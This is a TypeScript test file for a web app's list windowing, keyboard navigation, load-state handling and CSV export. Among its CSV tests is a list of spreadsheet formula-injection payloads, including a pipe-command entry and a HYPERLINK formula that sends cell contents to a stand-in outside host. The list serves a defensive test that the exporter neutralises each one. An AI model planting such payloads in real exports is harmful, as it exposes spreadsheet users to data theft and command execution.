// SPDX-License-Identifier: Apache-2.0
import { expect, test } from "vitest";
import { toCsv } from "./csv.ts";
import { tabAfter } from "./tabs.tsx";
import { afterReply, type LoadState } from "./use-load.ts";
import { rowAfter, scrollFor, windowOf } from "./window-of.ts";

test("windowOf() draws a screen of rows out of 100,000, wherever it is scrolled to", () => {
  for (const top of [0, 1, 2_199_980, 4_399_400, 9_999_999]) {
    const { from, to } = windowOf(100_000, 44, top, 600);
    expect(to - from).toBeLessThanOrEqual(28);
    const first = Math.min(Math.floor(top / 44), 99_999);
    expect(from).toBeLessThanOrEqual(first);
    expect(to).toBeGreaterThan(first);
    expect(to).toBeLessThanOrEqual(100_000);
  }
  expect(windowOf(0, 44, 500, 600)).toEqual({ from: 0, to: 0 });
  expect(windowOf(3, 44, 0, 600)).toEqual({ from: 0, to: 3 });
});

test("rowAfter() stays inside and leaves other keys alone", () => {
  expect(rowAfter("ArrowDown", 99, 100, 10)).toBe(99);
  expect(rowAfter("ArrowUp", 0, 100, 10)).toBe(0);
  expect(rowAfter("ArrowUp", -1, 100, 10)).toBe(0);
  expect(rowAfter("ArrowDown", -1, 100, 10)).toBe(0);
  expect(rowAfter("PageUp", 4, 100, 10)).toBe(0);
  expect(rowAfter("PageDown", 95, 100, 10)).toBe(99);
  expect(rowAfter("End", 2, 100_000, 10)).toBe(99_999);
  expect(rowAfter("Home", 2, 100, 10)).toBe(0);
  expect(rowAfter("Tab", 2, 100, 10)).toBeNull();
  expect(rowAfter("End", -1, 0, 10)).toBeNull();
});

test("scrollFor() moves no further than it must", () => {
  expect(scrollFor(5, 40, 0, 400)).toBeNull();
  expect(scrollFor(9, 40, 0, 400)).toBeNull();
  expect(scrollFor(10, 40, 0, 400)).toBe(40);
  expect(scrollFor(2, 40, 200, 400)).toBe(80);
});

test("tabAfter() mirrors the arrows where the text runs right to left", () => {
  expect(tabAfter("ArrowRight", 2, 3, false)).toBe(0);
  expect(tabAfter("ArrowRight", 2, 3, true)).toBe(1);
  expect(tabAfter("ArrowLeft", 0, 3, false)).toBe(2);
  expect(tabAfter("End", 0, 3, true)).toBe(2);
  expect(tabAfter("a", 0, 3, false)).toBeNull();
});

test("afterReply() keeps what was shown when the network fails, and takes it away when the server says no", () => {
  const ready: LoadState<number> = { state: "ready", value: 7, isStale: false };
  expect(afterReply(ready, null)).toEqual({ state: "ready", value: 7, isStale: true });
  expect(afterReply(ready, { status: 503, value: {} })).toMatchObject({ isStale: true });
  expect(afterReply(ready, { status: 403, value: { code: "x" } })).toEqual({ state: "forbidden", value: null });
  expect(afterReply(ready, { status: 404, value: { code: "gone" } })).toMatchObject({ state: "failed", code: "gone" });
  expect(afterReply({ state: "loading", value: null }, null)).toMatchObject({ state: "failed", code: "" });
  expect(afterReply(ready, { status: 200, value: 8 })).toEqual({ state: "ready", value: 8, isStale: false });
});

/** What a spreadsheet would run, in the ways known to get past a look at the first letter. */
const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  " =1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=cmd",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "|cmd",
  '=HYPERLINK("https://a.example?"&A1)',
];

test.each(FORMULAS)("[SEC-430] toCsv() lets no spreadsheet run %j", (text) => {
  const csv = toCsv(["a"], [[text]]);
  const value = csv.slice("a\r\n".length, -2).replace(/^"|"$/gu, "");
  expect(value.startsWith("'")).toBe(true);
});

test("toCsv() quotes as RFC 4180 says and leaves numbers numbers", () => {
  expect(
    toCsv(
      ["name", "n"],
      [
        ['a "b", c', -4.5],
        ["line\nbreak", 0],
        [null, undefined],
        ["it's", true],
      ],
    ),
  ).toBe('name,n\r\n"a ""b"", c",-4.5\r\n"line\nbreak",0\r\n,\r\nit\'s,true\r\n');
});
